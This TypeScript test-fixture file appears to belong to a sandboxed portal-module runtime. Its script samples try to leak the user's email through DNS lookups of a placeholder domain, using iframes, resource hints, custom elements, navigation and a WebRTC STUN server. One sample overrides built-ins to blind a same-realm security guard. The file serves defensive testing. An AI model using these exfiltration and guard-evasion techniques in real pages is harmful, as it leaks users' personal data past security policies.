// Scripts that put data into a host name, which a browser may look up before its policy stops the request. `LEAK` is a domain; a
// lookup of any name below it is a leak.

const asModule = (body: string): string => `export default async function start(portal) {
  const secret = portal.context.user.email.replaceAll('@', '-at-');
  portal.kit.page({ title: 'Módulo' });
  ${body}
}`;

/** Each is stopped before any lookup, and the module ends. */
export const leakyScripts: Readonly<Record<string, string>> = {
  'vaza-por-quadro': asModule(`
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://' + secret + '.quadro.LEAK/' }));
  `),
  'vaza-por-quadro-xml': asModule(`
    const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe');
    frame.setAttribute('src', 'http://' + secret + '.quadro-xml.LEAK/');
    document.body.append(frame);
  `),
  'vaza-por-texto': asModule(`
    portal.root.innerHTML = '<p>Olá</p><IFRAME/src="http://' + secret + '.texto.LEAK/"></IFRAME>';
  `),
  'vaza-por-documento': asModule(`
    const parsed = new DOMParser().parseFromString('<link rel="dns-prefetch" href="http://' + secret + '.documento.LEAK/">', 'text/html');
    document.head.append(document.adoptNode(parsed.querySelector('link')));
  `),
  'vaza-por-dica': asModule(`
    for (const rel of ['dns-prefetch', 'preconnect'])
      document.head.append(Object.assign(document.createElement('link'), { rel, href: 'http://' + secret + '.' + rel + '.LEAK/' }));
  `),
  'vaza-por-elemento-proprio': asModule(`
    customElements.define('um-quadro', class extends HTMLIFrameElement {}, { extends: 'iframe' });
    const frame = new (customElements.get('um-quadro'))();
    frame.src = 'http://' + secret + '.elemento.LEAK/';
    document.body.append(frame);
  `),
  /** First replaces the built-ins that a guard in the same realm would call. */
  'vaza-sem-guarda': asModule(`
    RegExp.prototype.exec = () => null;
    RegExp.prototype.test = () => false;
    String.prototype.toLowerCase = () => 'p';
    Reflect.apply = () => undefined;
    MessagePort.prototype.postMessage = function () { this.close(); };
    for (const name of ['data', 'ports']) Object.defineProperty(MessageEvent.prototype, name, { get() { this.target?.close?.(); } });
    for (const name of ['blockedURI', 'effectiveDirective'])
      Object.defineProperty(SecurityPolicyViolationEvent.prototype, name, { get() { throw new Error('no'); } });
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://' + secret + '.sem-guarda.LEAK/' }));
  `),
};

/** No content policy stops the lookup of the page that a frame navigates to; the list of connections does. */
export const leavingScripts: Readonly<Record<string, string>> = {
  'vaza-ao-sair': asModule("location.href = 'http://' + secret + '.saida.LEAK/';"),
};

/** Each API is closed and the script continues: no name is looked up, and the module does not end. */
export const closedApis: Readonly<Record<string, string>> = {
  /** Changes the address of an existing link of the document. */
  'muda-o-que-existe': asModule(`
    const own = document.querySelector('link, iframe, frame');
    if (own) { own.rel = 'dns-prefetch'; own.href = 'http://' + secret + '.proprio.LEAK/'; document.head.append(own.cloneNode()); }
    portal.kit.page({ title: own ? 'Achou' : 'Nada' });
  `),
  'conexao-direta': asModule(`
    let found = 'Nada';
    try {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + secret + '.par.LEAK:3478' }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      found = 'Achou';
    } catch {}
    portal.kit.page({ title: found });
  `),
  /** Would remove the listeners of the runtime with the document. */
  'apaga-o-documento': asModule(`
    let found = 'Nada';
    try { document.open(); document.write('<p>x</p>'); found = 'Achou'; } catch {}
    portal.kit.page({ title: found });
  `),
};

/** Mistakes of authors. The policy stops their requests, and the module continues without them. */
export const harmlessMistakes: Readonly<Record<string, string>> = {
  'imagem-de-fora': asModule(`
    document.body.append(Object.assign(document.createElement('img'), { src: 'http://imagem.LEAK/logo.png', alt: '' }));
    await fetch('http://dados.LEAK/').catch(() => undefined);
    portal.root.innerHTML = '<h1>Segue em frente</h1>';
  `),
};
